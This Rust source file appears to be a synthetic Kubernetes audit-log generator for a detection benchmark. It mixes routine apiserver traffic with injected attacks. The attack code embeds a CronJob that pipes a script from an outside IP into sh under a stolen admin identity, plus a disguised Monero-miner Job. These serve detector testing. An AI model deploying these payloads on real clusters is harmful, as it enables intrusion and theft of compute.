//! The event generator: routine apiserver noise, batch activity and injected attacks, written as
//! compact JSON in kube-apiserver's field order.

use std::io::{self, BufWriter, Write};
use std::rc::Rc;

use crate::fmt::{TimeFormatter, push_json_str, push_json_str_body, push_u64, push_uuid};
use crate::rng::SplitMix64;
use crate::world::{Identity, World, new_uuid};

/// What to generate.
#[derive(Debug, Clone)]
pub struct Config {
    /// Stop once at least this many bytes were written.
    pub size: u64,
    /// PRNG seed: the same seed and config give byte-identical output.
    pub seed: u64,
    /// Probability, per event, that a batch episode (CronJob tick, human CronJob write...) starts.
    pub batch_rate: f64,
    /// How many attacks to inject, spread evenly through the output.
    pub attacks: usize,
    /// Number of nodes in the synthetic cluster.
    pub nodes: usize,
    /// Unix time (seconds) of the first event.
    pub start_unix: u64,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            size: 100 << 20,
            seed: 42,
            batch_rate: 0.002,
            attacks: 6,
            nodes: 40,
            start_unix: 1_749_686_400,
        }
    }
}

/// An attack written into the log, so a benchmark can check it was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectedAttack {
    /// Short kind, e.g. `curl-sh-cronjob`.
    pub kind: &'static str,
    /// The auditID of the malicious request.
    pub audit_id: String,
    /// 1-based line of its ResponseComplete event.
    pub line: u64,
}

/// Totals of one run.
#[derive(Debug, Clone, Default)]
pub struct Stats {
    /// Audit event lines written.
    pub events: u64,
    /// Bytes written.
    pub bytes: u64,
    /// Batch write requests (jobs/cronjobs create, patch, delete) among them.
    pub batch_writes: u64,
    /// Attacks injected.
    pub attacks: Vec<InjectedAttack>,
}

/// Names of the attacks, injected round-robin.
pub const ATTACK_KINDS: &[&str] = &[
    "curl-sh-cronjob-stolen-admin",
    "miner-job",
    "kube-system-privileged-nsenter-cronjob",
    "cronjob-hijack-patch",
    "rbac-denied-cronjob-create",
    "anonymous-generate-name-job",
];

/// The parts of one request that vary; bodies live in the generator's scratch buffers.
struct Req<'a> {
    level: &'static str,
    verb: &'static str,
    who: &'a Identity,
    impersonated: &'a str,
    /// Empty: `{"metadata":{},"code":<code>}`.
    status_json: &'a str,
    code: u64,
    forbid: bool,
    /// Already-rendered `,"key":"value"` annotations sorting after `authorization.k8s.io/reason`.
    extra_annotations: &'a str,
    stage_pair: bool,
    /// Request duration in microseconds; long ones (watches) are written as received earlier.
    latency: u64,
}

/// Scratch buffers reused for every event.
#[derive(Default)]
struct Scratch {
    id: String,
    uri: String,
    oref: String,
    req: String,
    resp: String,
}

/// Writes audit events into an internal buffer that the caller drains.
pub struct Generator {
    rng: SplitMix64,
    world: World,
    tf: TimeFormatter,
    now: u64,
    rv: u64,
    out: String,
    s: Scratch,
    lines: u64,
    batch_writes: u64,
    counter: u64,
    pending_ttl: Vec<(usize, String)>,
}

/// Pod template knobs used by batch bodies.
#[derive(Default)]
struct PodTemplate<'a> {
    container: &'a str,
    image: &'a str,
    command_json: &'a str,
    args_json: &'a str,
    service_account: &'a str,
    restart: &'a str,
    hardened: bool,
    privileged: bool,
    host_pid: bool,
    host_network: bool,
    host_root: bool,
    tolerate_all: bool,
}

impl Generator {
    /// A generator for `cfg` (only the seed, node count and start time are used here).
    pub fn new(cfg: &Config) -> Self {
        let mut rng = SplitMix64::new(cfg.seed);
        let world = World::new(&mut rng, cfg.nodes);
        let rv = rng.range(1_000_000, 90_000_000);
        Generator {
            rng,
            world,
            tf: TimeFormatter::default(),
            now: cfg.start_unix.saturating_mul(1_000_000),
            rv,
            out: String::with_capacity(1 << 16),
            s: Scratch::default(),
            lines: 0,
            batch_writes: 0,
            counter: 0,
            pending_ttl: Vec::new(),
        }
    }

    /// The bytes generated since the last [`Generator::clear`].
    pub fn buffer(&self) -> &str {
        &self.out
    }

    /// Empties the output buffer (keeps its capacity).
    pub fn clear(&mut self) {
        self.out.clear();
    }

    /// Lines written so far.
    pub fn lines(&self) -> u64 {
        self.lines
    }

    fn advance(&mut self) {
        self.now += self.rng.range(50, 1500);
    }

    fn next_rv(&mut self) -> u64 {
        self.rv += self.rng.range(1, 30);
        self.rv
    }

    fn new_id(&mut self) {
        self.s.id.clear();
        let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
        push_uuid(&mut self.s.id, a, b);
    }

    /// Writes one request (one or two stage lines) from the scratch buffers; returns the
    /// line number of its ResponseComplete event.
    fn emit(&mut self, r: &Req<'_>) -> u64 {
        self.advance();
        let (received, done) = if r.latency > 30_000_000 {
            (self.now.saturating_sub(r.latency), self.now)
        } else {
            let done = self.now + r.latency;
            (self.now, done)
        };
        if r.stage_pair && r.latency <= 30_000_000 {
            self.head(r, "RequestReceived", false);
            self.out.push_str(",\"requestReceivedTimestamp\":\"");
            self.tf.push_micros(&mut self.out, received);
            self.out.push_str("\",\"stageTimestamp\":\"");
            self.tf.push_micros(&mut self.out, received);
            self.out.push_str("\"}\n");
            self.lines += 1;
        }
        self.head(r, "ResponseComplete", true);
        self.out.push_str(",\"responseStatus\":");
        if r.status_json.is_empty() {
            self.out.push_str("{\"metadata\":{},\"code\":");
            push_u64(&mut self.out, r.code);
            self.out.push('}');
        } else {
            self.out.push_str(r.status_json);
        }
        if !self.s.req.is_empty() {
            self.out.push_str(",\"requestObject\":");
            self.out.push_str(&self.s.req);
        }
        if !self.s.resp.is_empty() {
            self.out.push_str(",\"responseObject\":");
            self.out.push_str(&self.s.resp);
        }
        self.out.push_str(",\"requestReceivedTimestamp\":\"");
        self.tf.push_micros(&mut self.out, received);
        self.out.push_str("\",\"stageTimestamp\":\"");
        self.tf.push_micros(&mut self.out, done);
        self.out
            .push_str("\",\"annotations\":{\"authorization.k8s.io/decision\":\"");
        self.out.push_str(if r.forbid { "forbid" } else { "allow" });
        self.out.push_str("\",\"authorization.k8s.io/reason\":\"");
        if !r.forbid {
            self.out.push_str(&r.who.reason);
        }
        self.out.push('"');
        self.out.push_str(r.extra_annotations);
        self.out.push_str("}}\n");
        self.now = self.now.max(done);
        self.lines += 1;
        self.s.req.clear();
        self.s.resp.clear();
        self.lines
    }

    fn head(&mut self, r: &Req<'_>, stage: &str, complete: bool) {
        let o = &mut self.out;
        o.push_str("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"");
        o.push_str(r.level);
        o.push_str("\",\"auditID\":\"");
        o.push_str(&self.s.id);
        o.push_str("\",\"stage\":\"");
        o.push_str(stage);
        o.push_str("\",\"requestURI\":\"");
        push_json_str_body(o, &self.s.uri);
        o.push_str("\",\"verb\":\"");
        o.push_str(r.verb);
        o.push_str("\",\"user\":");
        o.push_str(&r.who.user_json);
        if complete && !r.impersonated.is_empty() {
            o.push_str(",\"impersonatedUser\":");
            o.push_str(r.impersonated);
        }
        o.push_str(",\"sourceIPs\":");
        o.push_str(&r.who.ips_json);
        if !r.who.ua_json.is_empty() {
            o.push_str(",\"userAgent\":");
            o.push_str(&r.who.ua_json);
        }
        if !self.s.oref.is_empty() {
            o.push_str(",\"objectRef\":");
            if !complete && r.verb == "create" && !self.s.oref.contains("\"subresource\"") {
                // A create's name is only known once the body is decoded.
                push_oref_without_name(o, &self.s.oref);
            } else {
                o.push_str(&self.s.oref);
            }
        }
    }

    fn oref(&mut self, resource: &str, ns: &str, name: &str, group: &str, sub: &str) {
        let o = &mut self.s.oref;
        o.clear();
        o.push_str("{\"resource\":\"");
        o.push_str(resource);
        o.push('"');
        if !ns.is_empty() {
            o.push_str(",\"namespace\":\"");
            o.push_str(ns);
            o.push('"');
        }
        if !name.is_empty() {
            o.push_str(",\"name\":\"");
            o.push_str(name);
            o.push('"');
        }
        o.push_str(",\"apiGroup\":\"");
        o.push_str(group);
        o.push_str("\",\"apiVersion\":\"v1\"");
        if !sub.is_empty() {
            o.push_str(",\"subresource\":\"");
            o.push_str(sub);
            o.push('"');
        }
        o.push('}');
    }

    fn read_latency(&mut self) -> u64 {
        self.rng.range(300, 6000)
    }

    /// Writes one routine (non-batch) request.
    pub fn noise(&mut self) {
        self.new_id();
        self.s.uri.clear();
        self.s.oref.clear();
        let kind = self
            .rng
            .weighted(&[24, 10, 12, 21, 8, 4, 6, 4, 3, 2, 1, 1, 1, 1]);
        let node = self.rng.below(self.world.kubelets.len() as u64) as usize;
        let nsi = self.rng.below(self.world.namespaces.len() as u64) as usize;
        let ns = self.world.namespaces.get(nsi).copied().unwrap_or("default");
        let latency = self.read_latency();
        let mut verb = "get";
        let mut code = 200;
        let mut latency_used = latency;
        // Identities are shared (Rc) so `emit` can borrow self mutably without copying them.
        let who: Rc<Identity> = match kind {
            0 => {
                // kubelet reads a pod, secret or configmap it needs
                let pick = self.rng.below(3);
                let (res, name): (&str, String) = match pick {
                    0 => ("pods", self.pod(nsi)),
                    1 => (
                        "secrets",
                        format!("{}-tls", self.pod(nsi).split('-').next().unwrap_or("app")),
                    ),
                    _ => ("configmaps", "kube-root-ca.crt".to_string()),
                };
                push3(&mut self.s.uri, "/api/v1/namespaces/", ns, "/");
                self.s.uri.push_str(res);
                self.s.uri.push('/');
                self.s.uri.push_str(&name);
                self.oref(res, ns, &name, "", "");
                self.kubelet(node)
            }
            1 => {
                verb = "watch";
                push3(
                    &mut self.s.uri,
                    "/api/v1/namespaces/",
                    ns,
                    "/configmaps?allowWatchBookmarks=true&fieldSelector=metadata.name%3Dkube-root-ca.crt&resourceVersion=",
                );
                push_u64(
                    &mut self.s.uri,
                    self.rv.saturating_sub(self.rng.range(1000, 90_000)),
                );
                self.s.uri.push_str("&timeout=7m");
                push_u64(&mut self.s.uri, self.rng.range(10, 59));
                self.s.uri.push_str("s&timeoutSeconds=");
                push_u64(&mut self.s.uri, self.rng.range(420, 479));
                self.s.uri.push_str("&watch=true");
                self.oref("configmaps", ns, "", "", "");
                latency_used = self.rng.range(300_000_000, 540_000_000);
                self.kubelet(node)
            }
            2 => {
                // controller informers
                let (res, group, path) = *self
                    .rng
                    .pick(&[
                        ("pods", "", "/api/v1"),
                        ("replicasets", "apps", "/apis/apps/v1"),
                        ("jobs", "batch", "/apis/batch/v1"),
                        ("cronjobs", "batch", "/apis/batch/v1"),
                        (
                            "endpointslices",
                            "discovery.k8s.io",
                            "/apis/discovery.k8s.io/v1",
                        ),
                        ("daemonsets", "apps", "/apis/apps/v1"),
                    ])
                    .unwrap_or(&("pods", "", "/api/v1"));
                let ctrl = match res {
                    "jobs" => "job-controller",
                    "cronjobs" => "cronjob-controller",
                    "replicasets" => "replicaset-controller",
                    "daemonsets" => "daemon-set-controller",
                    "endpointslices" => "endpointslice-controller",
                    _ => "generic-garbage-collector",
                };
                self.s.uri.push_str(path);
                self.s.uri.push('/');
                self.s.uri.push_str(res);
                if self.rng.chance(0.5) {
                    verb = "watch";
                    self.s
                        .uri
                        .push_str("?allowWatchBookmarks=true&resourceVersion=");
                    push_u64(
                        &mut self.s.uri,
                        self.rv.saturating_sub(self.rng.range(100, 50_000)),
                    );
                    self.s.uri.push_str("&timeout=9m");
                    push_u64(&mut self.s.uri, self.rng.range(10, 59));
                    self.s.uri.push_str("s&timeoutSeconds=");
                    push_u64(&mut self.s.uri, self.rng.range(540, 599));
                    self.s.uri.push_str("&watch=true");
                    latency_used = self.rng.range(540_000_000, 599_000_000);
                } else {
                    verb = "list";
                    self.s.uri.push_str("?limit=500&resourceVersion=0");
                    latency_used = self.rng.range(2_000, 40_000);
                }
                self.oref(res, "", "", group, "");
                self.world.controller(ctrl).clone()
            }
            3 => {
                // node agents and operators
                let ai = self.rng.below(self.world.agents.len() as u64) as usize;
                let pick = self.rng.below(4);
                match pick {
                    0 => {
                        verb = "list";
                        self.s
                            .uri
                            .push_str("/api/v1/pods?fieldSelector=spec.nodeName%3D");
                        self.s.uri.push_str(
                            self.world
                                .nodes
                                .get(node)
                                .map(String::as_str)
                                .unwrap_or("node"),
                        );
                        self.s.uri.push_str("&limit=500&resourceVersion=0");
                        self.oref("pods", "", "", "", "");
                    }
                    1 => {
                        verb = "watch";
                        self.s.uri.push_str(
                            "/api/v1/namespaces?allowWatchBookmarks=true&resourceVersion=",
                        );
                        push_u64(
                            &mut self.s.uri,
                            self.rv.saturating_sub(self.rng.range(100, 9000)),
                        );
                        self.s
                            .uri
                            .push_str("&timeout=8m12s&timeoutSeconds=492&watch=true");
                        self.oref("namespaces", "", "", "", "");
                        latency_used = 492_000_000 + self.rng.range(0, 900_000);
                    }
                    2 => {
                        let name = self.pod(nsi);
                        push3(&mut self.s.uri, "/api/v1/namespaces/", ns, "/pods/");
                        self.s.uri.push_str(&name);
                        self.oref("pods", ns, &name, "", "");
                    }
                    _ => {
                        verb = "list";
                        self.s.uri.push_str(
                            "/apis/discovery.k8s.io/v1/endpointslices?limit=500&resourceVersion=0",
                        );
                        self.oref("endpointslices", "", "", "discovery.k8s.io", "");
                    }
                }
                self.world
                    .agents
                    .get(ai)
                    .cloned()
                    .unwrap_or_else(|| self.world.kcm.clone())
            }
            4 => {
                let (lease, who) = if self.rng.chance(0.5) {
                    ("kube-controller-manager", self.world.kcm.clone())
                } else {
                    ("kube-scheduler", self.world.scheduler.clone())
                };
                self.s
                    .uri
                    .push_str("/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/");
                self.s.uri.push_str(lease);
                self.s.uri.push_str("?timeout=5s");
                self.oref("leases", "kube-system", lease, "coordination.k8s.io", "");
                who
            }
            5 => {
                // a person looking around
                let hi = self.rng.below(self.world.humans.len() as u64) as usize;
                verb = "list";
                push3(
                    &mut self.s.uri,
                    "/api/v1/namespaces/",
                    ns,
                    "/pods?limit=500",
                );
                self.oref("pods", ns, "", "", "");
                latency_used = self.rng.range(3_000, 30_000);
                self.world
                    .humans
                    .get(hi)
                    .cloned()
                    .unwrap_or_else(|| self.world.kcm.clone())
            }
            6 => {
                let uri = *self
                    .rng
                    .pick(&[
                        "/api",
                        "/apis",
                        "/version",
                        "/openapi/v2",
                        "/readyz",
                        "/livez",
                    ])
                    .unwrap_or(&"/api");
                self.s.uri.push_str(uri);
                self.kubelet(node)
            }
            7 => {
                verb = "list";
                self.s.uri.push_str("/api/v1/nodes?resourceVersion=0");
                self.oref("nodes", "", "", "", "");
                self.world
                    .agents
                    .get(9)
                    .cloned()
                    .unwrap_or_else(|| self.world.kcm.clone())
            }
            8 => {
                // node lease renewals
                verb = "update";
                let name = self.world.nodes.get(node).cloned().unwrap_or_default();
                self.s
                    .uri
                    .push_str("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/");
                self.s.uri.push_str(&name);
                self.s.uri.push_str("?timeout=10s");
                self.oref(
                    "leases",
                    "kube-node-lease",
                    &name,
                    "coordination.k8s.io",
                    "",
                );
                self.kubelet(node)
            }
            9 => {
                verb = "patch";
                let name = self.pod(nsi);
                push3(&mut self.s.uri, "/api/v1/namespaces/", ns, "/pods/");
                self.s.uri.push_str(&name);
                self.s.uri.push_str("/status");
                self.oref("pods", ns, &name, "", "status");
                self.kubelet(node)
            }
            10 => {
                verb = "patch";
                let name = self.world.nodes.get(node).cloned().unwrap_or_default();
                self.s.uri.push_str("/api/v1/nodes/");
                self.s.uri.push_str(&name);
                self.s.uri.push_str("/status?timeout=10s");
                self.oref("nodes", "", &name, "", "status");
                self.kubelet(node)
            }
            11 => {
                verb = "create";
                code = 201;
                push3(&mut self.s.uri, "/api/v1/namespaces/", ns, "/events");
                self.oref("events", ns, "", "", "");
                self.kubelet(node)
            }
            12 => {
                verb = "update";
                let mut name = self.pod(nsi);
                name.truncate(name.rfind('-').unwrap_or(name.len()));
                push3(
                    &mut self.s.uri,
                    "/apis/discovery.k8s.io/v1/namespaces/",
                    ns,
                    "/endpointslices/",
                );
                self.s.uri.push_str(&name);
                self.oref("endpointslices", ns, &name, "discovery.k8s.io", "");
                self.world.controller("endpointslice-controller").clone()
            }
            _ => {
                verb = "update";
                let mut name = self.pod(nsi);
                name.truncate(name.rfind('-').unwrap_or(name.len()));
                push3(
                    &mut self.s.uri,
                    "/apis/apps/v1/namespaces/",
                    ns,
                    "/replicasets/",
                );
                self.s.uri.push_str(&name);
                self.s.uri.push_str("/status");
                self.oref("replicasets", ns, &name, "apps", "status");
                self.world.controller("replicaset-controller").clone()
            }
        };
        self.emit(&Req {
            level: "Metadata",
            verb,
            who: &who,
            impersonated: "",
            status_json: "",
            code,
            forbid: false,
            extra_annotations: "",
            stage_pair: false,
            latency: latency_used,
        });
    }

    fn kubelet(&self, node: usize) -> Rc<Identity> {
        self.world
            .kubelets
            .get(node)
            .cloned()
            .unwrap_or_else(|| self.world.kcm.clone())
    }

    fn pod(&mut self, nsi: usize) -> String {
        let list = self.world.pods.get(nsi).map(Vec::as_slice).unwrap_or(&[]);
        self.rng
            .pick(list)
            .cloned()
            .unwrap_or_else(|| "app-0".to_string())
    }

    /// Writes one batch episode: a CronJob tick with its Job and Pod, a human CronJob write, or a TTL delete.
    pub fn batch_episode(&mut self) {
        match self.rng.weighted(&[70, 10, 10, 10]) {
            0 => self.cronjob_tick(),
            1 => self.human_cronjob_create(),
            2 => self.human_cronjob_patch(),
            _ => self.ttl_delete(),
        }
    }

    fn cronjob_tick(&mut self) {
        let ci = self.rng.below(self.world.cronjobs.len() as u64) as usize;
        let Some(cj) = self.world.cronjobs.get(ci).cloned() else {
            return;
        };
        let scheduled = self.now / 60_000_000;
        let mut job_name = cj.name.clone();
        job_name.push('-');
        push_u64(&mut job_name, scheduled);
        let job_uid = new_uuid(&mut self.rng);
        let tmpl = PodTemplate {
            container: "main",
            image: cj.image,
            command_json: cj.command_json,
            service_account: cj.service_account,
            restart: "OnFailure",
            hardened: true,
            ..PodTemplate::default()
        };
        let owner = ("CronJob", cj.name.as_str(), cj.uid.as_str());
        self.advance();
        let created = self.now / 1_000_000;
        let rv = self.next_rv();
        self.new_id();
        self.s.uri.clear();
        push3(
            &mut self.s.uri,
            "/apis/batch/v1/namespaces/",
            cj.ns,
            "/jobs",
        );
        self.oref("jobs", cj.ns, &job_name, "batch", "");
        let mut req = std::mem::take(&mut self.s.req);
        let mut resp = std::mem::take(&mut self.s.resp);
        push_job(
            &mut req,
            &mut self.tf,
            cj.ns,
            &job_name,
            None,
            Some(owner),
            Some(scheduled * 60),
            &tmpl,
            None,
        );
        push_job(
            &mut resp,
            &mut self.tf,
            cj.ns,
            &job_name,
            Some((&job_uid, created, rv)),
            Some(owner),
            Some(scheduled * 60),
            &tmpl,
            None,
        );
        self.s.req = req;
        self.s.resp = resp;
        let who = self.world.controller("cronjob-controller").clone();
        self.batch_writes += 1;
        let lat = self.rng.range(4_000, 25_000);
        self.emit(&Req {
            level: "RequestResponse",
            verb: "create",
            who: &who,
            impersonated: "",
            status_json: "",
            code: 201,
            forbid: false,
            extra_annotations: "",
            stage_pair: true,
            latency: lat,
        });
        // cronjobs/status
        self.new_id();
        self.s.uri.clear();
        push3(
            &mut self.s.uri,
            "/apis/batch/v1/namespaces/",
            cj.ns,
            "/cronjobs/",
        );
        self.s.uri.push_str(&cj.name);
        self.s.uri.push_str("/status");
        self.oref("cronjobs", cj.ns, &cj.name, "batch", "status");
        let lat = self.read_latency();
        self.emit(&Req {
            level: "Metadata",
            verb: "update",
            who: &who,
            impersonated: "",
            status_json: "",
            code: 200,
            forbid: false,
            extra_annotations: "",
            stage_pair: false,
            latency: lat,
        });
        // job-controller creates the pod
        self.pod_create(cj.ns, &job_name, &job_uid, &tmpl);
        // jobs/status
        let jc = self.world.controller("job-controller").clone();
        self.new_id();
        self.s.uri.clear();
        push3(
            &mut self.s.uri,
            "/apis/batch/v1/namespaces/",
            cj.ns,
            "/jobs/",
        );
        self.s.uri.push_str(&job_name);
        self.s.uri.push_str("/status");
        self.oref("jobs", cj.ns, &job_name, "batch", "status");
        let lat = self.read_latency();
        self.emit(&Req {
            level: "Metadata",
            verb: "update",
            who: &jc,
            impersonated: "",
            status_json: "",
            code: 200,
            forbid: false,
            extra_annotations: "",
            stage_pair: false,
            latency: lat,
        });
        if self.pending_ttl.len() < 64 {
            self.pending_ttl.push((ci, job_name));
        }
    }

    fn pod_create(&mut self, ns: &str, job_name: &str, job_uid: &str, tmpl: &PodTemplate<'_>) {
        let jc = self.world.controller("job-controller").clone();
        self.advance();
        let created = self.now / 1_000_000;
        let rv = self.next_rv();
        let pod_uid = new_uuid(&mut self.rng);
        let mut pod_name = job_name.to_string();
        pod_name.push('-');
        World::suffix(&mut self.rng, &mut pod_name, 5);
        self.new_id();
        self.s.uri.clear();
        push3(&mut self.s.uri, "/api/v1/namespaces/", ns, "/pods");
        self.oref("pods", ns, "", "", "");
        let mut req = std::mem::take(&mut self.s.req);
        let mut resp = std::mem::take(&mut self.s.resp);
        push_pod(&mut req, &mut self.tf, ns, job_name, job_uid, None, tmpl);
        push_pod(
            &mut resp,
            &mut self.tf,
            ns,
            job_name,
            job_uid,
            Some((&pod_name, &pod_uid, created, rv)),
            tmpl,
        );
        self.s.req = req;
        self.s.resp = resp;
        let lat = self.rng.range(5_000, 30_000);
        self.emit(&Req {
            level: "RequestResponse",
            verb: "create",
            who: &jc,
            impersonated: "",
            status_json: "",
            code: 201,
            forbid: false,
            extra_annotations: ",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"",
            stage_pair: false,
            latency: lat,
        });
    }

    fn human_cronjob_create(&mut self) {
        let hi = self.rng.below(self.world.humans.len() as u64) as usize;
        let Some(who) = self.world.humans.get(hi).cloned() else {
            return;
        };
        let ns = *self
            .rng
            .pick(&["billing", "data", "reporting", "search", "identity"])
            .unwrap_or(&"default");
        self.counter += 1;
        let mut name = String::from(
            *self
                .rng
                .pick(&[
                    "cache-warmer",
                    "report-digest",
                    "index-compact",
                    "token-rotate",
                    "orphan-sweeper",
                ])
                .unwrap_or(&"task"),
        );
        name.push('-');
        push_u64(&mut name, self.counter);
        let tmpl = PodTemplate {
            container: "task",
            image: "registry.example.org/platform/toolbox:2.4.1",
            command_json: "[\"/toolbox\",\"run\",\"--task=maintenance\"]",
            service_account: "toolbox",
            restart: "OnFailure",
            hardened: true,
            ..PodTemplate::default()
        };
        let schedule = *self
            .rng
            .pick(&["17 3 * * *", "0 */4 * * *", "45 22 * * 1-5", "@daily"])
            .unwrap_or(&"@daily");
        self.advance();
        let created = self.now / 1_000_000;
        let rv = self.next_rv();
        let uid = new_uuid(&mut self.rng);
        self.new_id();
        self.s.uri.clear();
        push3(
            &mut self.s.uri,
            "/apis/batch/v1/namespaces/",
            ns,
            "/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict",
        );
        self.oref("cronjobs", ns, &name, "batch", "");
        let mut req = std::mem::take(&mut self.s.req);
        let mut resp = std::mem::take(&mut self.s.resp);
        push_cronjob(
            &mut req,
            &mut self.tf,
            ns,
            &name,
            None,
            schedule,
            false,
            &tmpl,
            (3, 1),
            None,
        );
        push_cronjob(
            &mut resp,
            &mut self.tf,
            ns,
            &name,
            Some((&uid, created, rv)),
            schedule,
            false,
            &tmpl,
            (3, 1),
            None,
        );
        self.s.req = req;
        self.s.resp = resp;
        self.batch_writes += 1;
        let lat = self.rng.range(5_000, 20_000);
        self.emit(&Req {
            level: "RequestResponse",
            verb: "create",
            who: &who,
            impersonated: "",
            status_json: "",
            code: 201,
            forbid: false,
            extra_annotations: "",
            stage_pair: true,
            latency: lat,
        });
    }

    fn human_cronjob_patch(&mut self) {
        let hi = self.rng.below(self.world.humans.len() as u64) as usize;
        let Some(who) = self.world.humans.get(hi).cloned() else {
            return;
        };
        let ci = self.rng.below(self.world.cronjobs.len() as u64) as usize;
        let Some(cj) = self.world.cronjobs.get(ci).cloned() else {
            return;
        };
        let tmpl = PodTemplate {
            container: "main",
            image: cj.image,
            command_json: cj.command_json,
            service_account: cj.service_account,
            restart: "OnFailure",
            hardened: true,
            ..PodTemplate::default()
        };
        self.advance();
        let rv = self.next_rv();
        let created = self.now / 1_000_000 - 86_400 * 30;
        self.new_id();
        self.s.uri.clear();
        push3(
            &mut self.s.uri,
            "/apis/batch/v1/namespaces/",
            cj.ns,
            "/cronjobs/",
        );
        self.s.uri.push_str(&cj.name);
        self.s.uri.push_str("?fieldManager=kubectl-patch");
        self.oref("cronjobs", cj.ns, &cj.name, "batch", "");
        self.s
            .req
            .push_str("{\"spec\":{\"successfulJobsHistoryLimit\":5}}");
        let mut resp = std::mem::take(&mut self.s.resp);
        push_cronjob(
            &mut resp,
            &mut self.tf,
            cj.ns,
            &cj.name,
            Some((&cj.uid, created, rv)),
            cj.schedule,
            false,
            &tmpl,
            (5, 1),
            None,
        );
        self.s.resp = resp;
        self.batch_writes += 1;
        let lat = self.rng.range(3_000, 12_000);
        self.emit(&Req {
            level: "RequestResponse",
            verb: "patch",
            who: &who,
            impersonated: "",
            status_json: "",
            code: 200,
            forbid: false,
            extra_annotations: "",
            stage_pair: true,
            latency: lat,
        });
    }

    fn ttl_delete(&mut self) {
        let Some((ci, job_name)) = self.pending_ttl.pop() else {
            return;
        };
        let Some(ns) = self.world.cronjobs.get(ci).map(|c| c.ns) else {
            return;
        };
        let who = if self.rng.chance(0.5) {
            self.world
                .controller("ttl-after-finished-controller")
                .clone()
        } else {
            self.world.controller("cronjob-controller").clone()
        };
        self.new_id();
        self.s.uri.clear();
        push3(&mut self.s.uri, "/apis/batch/v1/namespaces/", ns, "/jobs/");
        self.s.uri.push_str(&job_name);
        self.oref("jobs", ns, &job_name, "batch", "");
        self.s
            .req
            .push_str("{\"kind\":\"DeleteOptions\",\"apiVersion\":\"batch/v1\",\"propagationPolicy\":\"Background\"}");
        self.s
            .resp
            .push_str("{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"metadata\":{},\"status\":\"Success\",\"details\":{\"name\":\"");
        self.s.resp.push_str(&job_name);
        self.s
            .resp
            .push_str("\",\"group\":\"batch\",\"kind\":\"jobs\",\"uid\":\"");
        let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
        push_uuid(&mut self.s.resp, a, b);
        self.s.resp.push_str("\"}}");
        self.batch_writes += 1;
        let lat = self.rng.range(3_000, 12_000);
        self.emit(&Req {
            level: "RequestResponse",
            verb: "delete",
            who: &who,
            impersonated: "",
            status_json: "",
            code: 200,
            forbid: false,
            extra_annotations: "",
            stage_pair: true,
            latency: lat,
        });
    }

    /// Writes attack number `n` (kinds cycle through [`ATTACK_KINDS`]) and returns what was injected.
    pub fn attack(&mut self, n: usize) -> InjectedAttack {
        let kind = ATTACK_KINDS
            .get(n % ATTACK_KINDS.len())
            .copied()
            .unwrap_or("curl-sh-cronjob-stolen-admin");
        self.advance();
        let created = self.now / 1_000_000;
        let rv = self.next_rv();
        let uid = new_uuid(&mut self.rng);
        self.new_id();
        self.s.uri.clear();
        self.batch_writes += 1;
        let lat = self.rng.range(5_000, 20_000);
        let mut req = std::mem::take(&mut self.s.req);
        let mut resp = std::mem::take(&mut self.s.resp);
        let mut status = String::new();
        let who: Rc<Identity>;
        let mut verb = "create";
        let mut code = 201;
        let mut forbid = false;
        match kind {
            "curl-sh-cronjob-stolen-admin" => {
                who = Rc::new(Identity {
                    user_json: "{\"username\":\"kubernetes-admin\",\"groups\":[\"kubeadm:cluster-admins\",\"system:authenticated\"]}".into(),
                    ips_json: "[\"193.142.146.35\"]".into(),
                    ua_json: "\"kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819\"".into(),
                    reason: "RBAC: allowed by ClusterRoleBinding \\\"kubeadm:cluster-admins\\\" of ClusterRole \\\"cluster-admin\\\" to Group \\\"kubeadm:cluster-admins\\\"".into(),
                });
                let t = PodTemplate {
                    container: "logrotate",
                    image: "alpine:3.19",
                    command_json: "[\"/bin/sh\",\"-c\"]",
                    args_json: "[\"apk add -q curl; curl -fsSL http://193.142.146.35:8080/lr.sh | sh\"]",
                    restart: "OnFailure",
                    ..PodTemplate::default()
                };
                let name = "logrotate-payments";
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/payments/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict");
                self.oref("cronjobs", "payments", name, "batch", "");
                push_cronjob(
                    &mut req,
                    &mut self.tf,
                    "payments",
                    name,
                    None,
                    "* * * * *",
                    false,
                    &t,
                    (1, 1),
                    None,
                );
                push_cronjob(
                    &mut resp,
                    &mut self.tf,
                    "payments",
                    name,
                    Some((&uid, created, rv)),
                    "* * * * *",
                    false,
                    &t,
                    (1, 1),
                    None,
                );
            }
            "miner-job" => {
                who = self
                    .world
                    .humans
                    .get(2)
                    .cloned()
                    .unwrap_or_else(|| self.world.kcm.clone());
                let t = PodTemplate {
                    container: "trainer",
                    image: "docker.io/pytorchbench/cuda-runtime:12.1",
                    command_json: "[\"/opt/conda/bin/kworkerd\"]",
                    args_json: "[\"-o\",\"stratum+tcp://pool.hashvault.pro:443\",\"-u\",\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"--donate-level=1\",\"-a\",\"rx/0\"]",
                    restart: "Never",
                    tolerate_all: true,
                    ..PodTemplate::default()
                };
                let name = "resnet-sweep-0613";
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/ml/jobs?fieldManager=kubectl-create&fieldValidation=Strict");
                self.oref("jobs", "ml", name, "batch", "");
                push_job(
                    &mut req,
                    &mut self.tf,
                    "ml",
                    name,
                    None,
                    None,
                    None,
                    &t,
                    None,
                );
                push_job(
                    &mut resp,
                    &mut self.tf,
                    "ml",
                    name,
                    Some((&uid, created, rv)),
                    None,
                    None,
                    &t,
                    None,
                );
            }
            "kube-system-privileged-nsenter-cronjob" => {
                let mut user = String::new();
                user.push_str("{\"username\":\"system:serviceaccount:ci:release-bot\",\"uid\":\"");
                let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
                push_uuid(&mut user, a, b);
